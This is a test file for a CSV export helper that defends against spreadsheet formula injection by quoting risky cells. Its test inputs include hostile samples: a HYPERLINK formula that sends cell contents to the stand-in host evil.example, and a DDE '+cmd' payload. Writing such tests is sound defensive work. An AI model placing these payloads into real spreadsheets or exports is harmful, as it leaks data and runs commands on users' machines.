import { parse } from 'csv-parse/sync';
import { isFormulaLike, neutraliseCell, safeCsvRows, toSafeCsv } from './csv';

const read = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true });

describe('neutraliseCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
    "+cmd|' /C calc'!A0",
    '-1+2',
    '-2',
    '@SUM(A1:A9)',
    '\t=1+2',
    '\r=1+2',
    '\tchỉ một tab',
    '\rchỉ một CR',
    ' =1+2',
    '\u00a0\u3000=1+2',
    '\n@x',
    '＝1+2',
    '＋1',
    '－1',
    '＠x',
  ])('writes %j as text', (value) => {
    expect(isFormulaLike(value)).toBe(true);
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each(['Đăng ký khai sinh', 'HS-000001', '1.001193', '02/06/2025 08:00:00', "'already quoted", 'a=b', 'x-1', '', '   '])('leaves %j as it is', (value) => {
    expect(isFormulaLike(value)).toBe(false);
    expect(neutraliseCell(value)).toBe(value);
  });

  it('keeps numbers numbers, negative ones too, and writes nothing for a missing value', () => {
    expect(neutraliseCell(-3)).toBe(-3);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell(12)).toBe(12);
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(undefined)).toBe('');
    expect(neutraliseCell(Number.NaN)).toBe('');
  });
});

describe('toSafeCsv', () => {
  it('writes a BOM, CRLF line ends, the headings and the rows', () => {
    const csv = toSafeCsv(['Mã hồ sơ', 'Số ngày'], [['HS-1', -3], ['HS-2', 5]]);
    expect(csv).toBe('\uFEFFMã hồ sơ,Số ngày\r\nHS-1,-3\r\nHS-2,5\r\n');
  });

  it('quotes every neutralised cell, and the file reads back to the quoted text', () => {
    const dangerous = ['=1+2', "+cmd|' /C calc'!A0", '@x', '-1+2', '\t=1+2', '\r\n=2'];
    const csv = toSafeCsv(['Ô'], dangerous.map((value) => [value]));
    for (const value of dangerous) expect(csv).toContain(`"'${value}"`);
    expect(read(csv).slice(1).map((row) => row[0])).toEqual(dangerous.map((value) => `'${value}`));
  });

  it('leaves numbers unquoted beside neutralised text', () => {
    const csv = toSafeCsv(['a', 'b', 'c'], [['=x', -1, '-1']]);
    expect(csv.split('\r\n')[1]).toBe(`"'=x",-1,"'-1"`);
  });

  it('escapes quotes and separators inside cells as CSV does', () => {
    const csv = toSafeCsv(['a'], [['Chứng thực "bản sao", văn bản']]);
    expect(read(csv)[1]).toEqual(['Chứng thực "bản sao", văn bản']);
  });

  it('writes the same file a few rows at a time: toSafeCsv for the first, safeCsvRows for the rest', () => {
    const rows = [['HS-1', '=1+2'], ['HS-2', 'ổn'], ['HS-3', '@x']];
    expect(toSafeCsv(['a', 'b'], rows.slice(0, 1)) + safeCsvRows(rows.slice(1, 2)) + safeCsvRows([]) + safeCsvRows(rows.slice(2))).toBe(toSafeCsv(['a', 'b'], rows));
  });
});
